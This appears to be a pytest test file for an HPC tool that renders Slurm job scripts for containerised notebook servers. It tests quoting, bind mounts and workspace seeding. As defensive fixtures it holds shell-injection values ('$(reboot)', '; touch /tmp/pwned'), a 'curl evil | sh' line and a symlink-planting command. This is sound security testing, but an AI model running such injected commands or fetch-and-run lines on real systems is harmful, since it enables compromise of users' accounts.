"""A notebook server's job script: resources, binds, workspace seeding, and
the command inside the image, run for real as a researcher."""

from __future__ import annotations

import re
import shlex
import subprocess
from pathlib import Path

import pytest

from hpcbinder.config import Site
from hpcbinder.jobs.request import request_for
from hpcbinder.jobs.serverscript import Seed, ServerJob, render_server_script, workspace_for
from hpcbinder.seams.slurm import SubmitOptions
from tests.conftest import DevCluster

COMMIT = "a" * 40


def site_with(workspace_root: Path, mode: str = "persistent") -> Site:
    return Site.model_validate(
        {
            "workspace": {"root": str(workspace_root), "mode": mode},
            "binds": [
                {"source": "/etc/hostname", "target": "/mnt/host-hostname", "read_only": True}
            ],
        }
    )


def test_hostile_values_stay_single_words(tmp_path: Path) -> None:
    site = site_with(tmp_path / "ws")
    command = [
        "jupyterhub-singleuser",
        "--NotebookApp.default_url=/lab/tree/$(reboot).ipynb",
        "x'; touch /tmp/pwned; '",
    ]
    job = ServerJob(
        "alice",
        Path("/home/alice"),
        request_for(site, None, {}, user="alice"),
        ["apptainer", "exec", "/images/env.sif"],
        command,
        workspace=tmp_path / "ws" / "repo",
        seed=Seed(tmp_path / "checkout", COMMIT, from_image=False),
    )
    script = render_server_script(site, job)
    assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0
    last = script.strip().splitlines()[-1]
    assert shlex.split(last) == [
        "exec",
        "apptainer",
        "exec",
        "--contain",
        "--cleanenv",
        "--pid",
        "--bind",
        "/etc/hostname:/mnt/host-hostname:ro",
        "--bind",
        "$workspace",
        "--home",
        "$workspace",
        "--pwd",
        "$workspace",
        "/images/env.sif",
        *command,
    ]
    assert "#SBATCH --partition=interactive" in script


@pytest.mark.slurm
@pytest.mark.apptainer
@pytest.mark.parametrize("mode", ["persistent", "ephemeral"])
def test_workspace_is_seeded_once_and_keeps_edits(
    devcluster: DevCluster, busybox_image: Path, shared_dir: Path, mode: str
) -> None:
    checkout = shared_dir / "checkout"
    checkout.mkdir()
    (checkout / "analysis.ipynb").write_text("{}\n")
    site = site_with(shared_dir / "workspaces", mode)
    home = Path("/home/alice")
    workspace = workspace_for(site, "alice", home, "repo-abc")
    command = [
        "/bin/busybox",
        "sh",
        "-c",
        "echo launch >> notes.txt; echo count=$(/bin/busybox wc -l < notes.txt); "
        "echo host=$(/bin/busybox cat /mnt/host-hostname); "
        "echo files=$(/bin/busybox ls | /bin/busybox tr '\\n' ,)",
    ]
    job = ServerJob(
        "alice",
        home,
        request_for(site, None, {"time": "00:05:00"}, user="alice"),
        ["apptainer", "exec", str(busybox_image)],
        command,
        workspace=workspace,
        seed=Seed(checkout, COMMIT, from_image=False),
    )
    outputs = []
    for _ in range(2):
        script = render_server_script(site, job)
        job_id = devcluster.slurm.submit(script, SubmitOptions(), user="alice")
        info = devcluster.slurm.wait(job_id, timeout=120)
        log = home / f".hpcbinder-server-{job_id}.log"
        outputs.append(log.read_text())
        log.unlink()
        assert (info.state, info.exit_code) == ("COMPLETED", 0), outputs[-1]
    first, second = (dict(re.findall(r"^(\w+)=(.*)$", text, re.MULTILINE)) for text in outputs)
    assert "analysis.ipynb" in first["files"] and "notes.txt" in first["files"]
    assert first["host"] == Path("/etc/hostname").read_text().strip()
    assert first["count"] == "1"
    assert second["count"] == ("2" if mode == "persistent" else "1")
    seeded = sorted(p for p in (shared_dir / "workspaces").iterdir())
    assert len(seeded) == (1 if mode == "persistent" else 2)
    assert (seeded[0] / ".hpcbinder-workspace").read_text().strip() == COMMIT


@pytest.mark.slurm
@pytest.mark.apptainer
def test_a_workspace_is_never_seeded_through_links_its_code_left(
    devcluster: DevCluster, busybox_image: Path, shared_dir: Path
) -> None:
    """The repository's code (a notebook, its start script) removes the
    workspace's marker and links a file of the repository's name to one of
    the researcher's. The next launch must not copy the repository through
    that link (the copy runs on the host, as the researcher)."""
    victim = Path("/home/alice/.hpcbinder-test-bashrc")
    victim.write_text("untouched\n")
    subprocess.run(["chown", "alice:alice", str(victim)], check=True)
    checkout = shared_dir / "checkout"
    checkout.mkdir()
    (checkout / "notes.txt").write_text("curl evil | sh\n")
    site = site_with(shared_dir / "workspaces")
    home = Path("/home/alice")
    plant = f"rm -f .hpcbinder-workspace notes.txt; ln -s {victim} notes.txt"
    job = ServerJob(
        "alice",
        home,
        request_for(site, None, {"time": "00:05:00"}, user="alice"),
        ["apptainer", "exec", str(busybox_image)],
        ["/bin/busybox", "sh", "-c", plant],
        workspace=workspace_for(site, "alice", home, "repo-planted"),
        seed=Seed(checkout, COMMIT, from_image=False),
    )
    try:
        for _ in range(2):
            job_id = devcluster.slurm.submit(
                render_server_script(site, job), SubmitOptions(), user="alice"
            )
            info = devcluster.slurm.wait(job_id, timeout=120)
            (home / f".hpcbinder-server-{job_id}.log").unlink(missing_ok=True)
            assert info.state == "COMPLETED", info
        assert victim.read_text() == "untouched\n"
    finally:
        victim.unlink(missing_ok=True)
